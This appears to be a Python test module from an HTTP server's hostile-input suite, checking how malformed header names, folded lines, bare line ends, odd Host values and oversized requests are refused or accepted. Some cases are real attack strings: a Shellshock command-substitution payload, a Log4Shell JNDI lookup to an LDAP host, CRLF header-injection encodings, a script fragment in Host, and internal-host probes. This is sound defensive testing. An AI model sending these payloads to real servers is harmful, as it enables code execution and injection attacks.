"""Header lines: names, values, folding, line ends, hosts, sizes."""

from __future__ import annotations

from tests.hostile.case import AFTER, POST, Case, post, refused


def _line(line: bytes) -> bytes:
    return POST + line + b"\r\nContent-Length: 2\r\n\r\nhi"


HEADERS = [
    *(
        refused(name, _line(line))
        for name, line in (
            ("folded with a space", b"X: a\r\n b"),
            ("folded with a tab", b"X: a\r\n\tb"),
            ("folded with nothing", b"X: a\r\n "),
            ("folded before its value", b"X:\r\n a"),
            ("a space before the name", b" X: a"),
            ("a tab before the name", b"\tX: a"),
            ("a space in the name", b"X Y: a"),
            ("a space before the colon", b"X : a"),
            ("a tab before the colon", b"X\t: a"),
            ("no name", b": a"),
            ("no colon", b"X a"),
            ("nothing but a colon", b":"),
            ("NUL in a name", b"X\0: a"),
            ("NUL in a value", b"X: a\0b"),
            ("NUL at the end of a value", b"X: a\0"),
            ("a control character in a value", b"X: a\x01b"),
            ("ESC in a value", b"X: \x1b[31m"),
            ("backspace in a value", b"X: a\x08b"),
            ("vertical tab in a value", b"X: a\x0bb"),
            ("form feed in a value", b"X: a\x0cb"),
            ("DEL in a value", b"X: a\x7f"),
            ("a name outside ASCII", b"\xc3\xa4: a"),
            ("a name with parentheses", b"X(Y): a"),
            ("a name with a comma", b"X,Y: a"),
            ("a name with quotes", b'"X": a'),
            ("a name with a slash", b"X/Y: a"),
            ("a name with a bracket", b"X[0]: a"),
            ("a name with an at sign", b"X@Y: a"),
            ("a name with an equals sign", b"X=Y: a"),
        )
    ),
    Case("every letter a name may have", _line(b"!#$%&'*+-.^_`|~09azAZ: a"), (200,)),
    Case("an empty value", _line(b"X:"), (200,)),
    Case("a value of blanks", _line(b"X:  \t "), (200,)),
    Case("blanks around a value", _line(b"X: \t a b \t "), (200,)),
    Case("colons in a value", _line(b"X: a: b: c"), (200,)),
    Case("quotes and backslashes in a value", _line(b'X: "a\\"b" \\'), (200,)),
    Case("a tab within a value", _line(b"X: a\tb"), (200,)),
    Case("Latin letters in a value", _line(b"X: Gr\xfc\xdfe"), (200,)),
    Case("UTF-8 in a value", _line(b"X: \xe2\x82\xac \xf0\x9f\x90\x99"), (200,)),
    Case("every byte from 0x80 on in a value", _line(b"X: " + bytes(range(0x80, 0x100))), (200,)),
    Case("the same name three times", _line(b"X: 1\r\nx: 2\r\nX: 1"), (200,)),
    Case("Cookie twice", _line(b"Cookie: a=1\r\nCookie: a=2"), (200,)),
    Case("Authorization twice", _line(b"Authorization: Basic YTpi\r\nAuthorization: Bearer x"), (200,)),
    Case("an encoded line end in a value", _line(b"X: a%0d%0aY: b"), (200,)),
    Case("a line end in UTF-7 and in backslashes", _line(b"X: +AA0ACg-Y: b\\r\\nZ: c"), (200,)),
    Case("a line end in wide letters", _line(b"X: \xe5\x98\x8a\xe5\x98\x8dY: b"), (200,)),
    Case("a shell command in a value", _line(b"X: () { :; }; echo; $(id) `id`"), (200,)),
    Case("a look-up in a value", _line(b"User-Agent: ${jndi:ldap://192.0.2.1/a}"), (200,)),
]

LINE_ENDS = [
    refused("bare LF after a header", POST + b"X: a\nContent-Length: 2\r\n\r\nhi"),
    refused("bare LF after each header", (POST + b"Content-Length: 2\r\n\r\nhi").replace(b"\r\n", b"\n")),
    refused("bare LF as the blank line", POST + b"Content-Length: 2\r\n\nhi"),
    refused("CR LF CR as the blank line", POST + b"Content-Length: 2\r\n\rhi"),
    refused("CR CR LF after a header", POST + b"X: a\r\r\nContent-Length: 2\r\n\r\nhi"),
    refused("LF CR after a header", POST + b"X: a\n\rContent-Length: 2\r\n\r\nhi"),
    refused("bare CR in a value", POST + b"X: a\rb\r\nContent-Length: 2\r\n\r\nhi"),
    refused("bare CR before a value", POST + b"X:\ra\r\nContent-Length: 2\r\n\r\nhi"),
    refused("NEL for a line end", POST + b"X\x85Y: a\r\nContent-Length: 2\r\n\r\nhi"),
    Case("NEL in a value is a letter", POST + b"X: a\x85Content-Length: 9\r\nContent-Length: 2\r\n\r\nhi", (200,)),
]


def _host(*lines: bytes) -> bytes:
    head = b"".join(line + b"\r\n" for line in lines)
    return b"POST /function/mirror HTTP/1.1\r\n" + head + b"Content-Length: 2\r\n\r\nhi"


HOSTS = [
    refused("no host", _host()),
    refused("two hosts", _host(b"Host: a", b"Host: b")),
    refused("the same host twice", _host(b"Host: a", b"host: a")),
    refused("a host with a blank", _host(b"Host: a b")),
    refused("a host with a path", _host(b"Host: a/b")),
    refused("a host with a user", _host(b"Host: u@a")),
    refused("a host with quotes and angles", _host(b'Host: a"><script>')),
    refused("a host with a backslash", _host(b"Host: a\\b")),
    refused("a host with a question mark", _host(b"Host: a?b")),
    refused("a host outside ASCII", _host(b"Host: \xe4.example")),
    refused("a folded host", _host(b"Host: a\r\n b")),
    Case("an empty host", _host(b"Host:"), (200,)),
    Case("a host with a port", _host(b"Host: example.com:8080"), (200,)),
    Case("a host that is an IPv6 address", _host(b"Host: [::1]:8080"), (200,)),
    Case("a host that nobody here has", _host(b"Host: metadata.internal"), (200,)),
    Case("a host within X-Forwarded-Host", _host(b"Host: a", b"X-Forwarded-Host: evil"), (200,)),
]

SIZES = [
    Case("200 header lines", POST + b"X: a\r\n" * 200 + b"Content-Length: 2\r\n\r\nhi", (200,)),
    refused("300 header lines", POST + b"X: a\r\n" * 300 + b"Content-Length: 2\r\n\r\nhi", 431),
    refused("twenty thousand header lines", POST + b"X: a\r\n" * 20_000 + b"Content-Length: 2\r\n\r\nhi", 431),
    Case("64 KB of cookies", _line(b"Cookie: " + b"c" * 65_000), (200,)),
    refused("a value of 200 KB", _line(b"X: " + b"a" * 200_000), 431),
    refused("a name of 200 KB", _line(b"X" * 200_000 + b": a"), 431),
    refused("a value that never ends", POST + b"X: " + b"a" * 400_000, 431),
    Case("a target of 8,000 bytes", post(target=b"/function/mirror/" + b"a" * 8000), (200,)),
    Case("a query of 8,000 bytes", post(target=b"/function/mirror?" + b"a=b&" * 2000), (200,)),
    refused("a target of 20 KB", post(target=b"/function/mirror/" + b"a" * 20_000), 414),
    refused("a target that never ends", b"POST /function/mirror/" + b"a" * 400_000, 414),
    refused("a method that never ends", b"P" * 400_000),
    Case("a body of 900 KB", post(body=b"x" * 900_000) + AFTER, (200, 200)),
    Case("a body of 1.1 MB", post(body=b"x" * 1_100_000), (200,), stored=(413,)),
    Case(
        "a chunked body of 1.1 MB",
        POST + b"Transfer-Encoding: chunked\r\n\r\n" + (b"4000\r\n" + b"x" * 16384 + b"\r\n") * 70 + b"0\r\n\r\n",
        (200,),
        stored=(413,),
    ),
]
